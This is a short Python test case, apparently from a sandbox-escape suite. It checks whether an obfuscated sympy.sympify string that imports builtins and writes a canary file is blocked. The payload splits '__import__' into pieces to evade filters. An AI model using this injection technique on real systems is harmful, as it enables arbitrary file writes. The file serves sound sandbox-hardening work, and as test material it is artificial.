# attack: overwrite a host file through sympify, past the gate
# covers: home, getattr_strings
# gate: pass
# runtime: ok
# layer: hidden_host_paths
# needs: hidden_host_paths
import sympy

payload = "__imp" + "ort__('buil" + "tins').op" + "en('@@CANARY_DIR@@/canary.txt', 'w').write('x')"
try:
    sympy.sympify(payload)
except OSError as exc:
    print("BLOCKED", type(exc).__name__)
except Exception as exc:
    print("ESCAPED: wrote, then sympify failed with", type(exc).__name__)
else:
    print("ESCAPED: wrote")
